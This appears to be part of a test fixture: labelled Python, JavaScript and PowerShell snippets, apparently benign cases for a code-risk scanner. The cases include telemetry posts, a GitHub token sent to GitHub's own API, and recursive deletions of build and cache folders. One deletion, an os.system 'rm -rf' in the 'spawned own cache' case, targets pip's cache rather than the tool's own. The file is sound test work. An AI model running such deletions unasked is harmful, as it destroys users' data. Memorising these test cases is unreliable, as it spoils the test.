    single('python', 'kube config', 'from kubernetes import client, config\nconfig.load_kube_config()\nprint(client.CoreV1Api().list_namespaced_pod("default"))'),
    single('python', 'metrics', 'import platform, requests\nrequests.post("https://metrics.northwind-metrics.com/v1/run", json={"os": platform.system(), "ok": True})'),
    single('python', 'reset a state table', 'import sqlite3\ndb = sqlite3.connect("index.sqlite")\ndb.execute("delete from cursor")\ndb.execute("insert into cursor values (?)", (42,))\ndb.commit()'),
    single('python', 'clean build', 'import shutil\nshutil.rmtree("build", ignore_errors=True)\nshutil.rmtree("dist", ignore_errors=True)'),
    single('python', 'own cache', 'import shutil\nfrom pathlib import Path\nshutil.rmtree(Path.home() / ".cache" / "mytool", ignore_errors=True)'),
    single('python', 'spawned own cache', 'import os, subprocess\nfrom pathlib import Path\nsubprocess.run(["rm", "-rf", str(Path.home() / ".cache" / "mytool")], check=False)\nos.system("rm -rf " + os.path.join(os.path.expanduser("~"), ".cache", "pip"))'),
    single('python', 'list home', 'import subprocess\nfrom pathlib import Path\nsubprocess.run(["ls", "-la", str(Path.home())])\nsubprocess.run(f"du -sh {Path.home()}/Downloads", shell=True)'),
    single('javascript', 'bearer to its api', 'const res = await fetch("https://api.github.com/user", { headers: { Authorization: `token ${process.env.GITHUB_TOKEN}` } });\nconsole.log(await res.json());'),
    single('javascript', 'metrics', 'import os from "node:os";\nawait fetch("https://metrics.northwind-metrics.com/v1/run", { method: "POST", body: JSON.stringify({ platform: os.platform() }) });'),
    single('javascript', 'clean build', 'import fs from "node:fs";\nfs.rmSync("dist", { recursive: true, force: true });'),
    single('javascript', 'own cache', 'import fs from "node:fs";\nimport os from "node:os";\nimport path from "node:path";\nfs.rmSync(path.join(os.homedir(), ".cache", "mytool"), { recursive: true, force: true });'),
    single('powershell', 'bearer to its api', 'Invoke-RestMethod -Uri "https://api.github.com/user" -Headers @{ Authorization = "Bearer $env:GITHUB_TOKEN" }'),
    single('powershell', 'clean build', 'Remove-Item -Recurse -Force .\\bin, .\\obj -ErrorAction SilentlyContinue'),
  ];
}
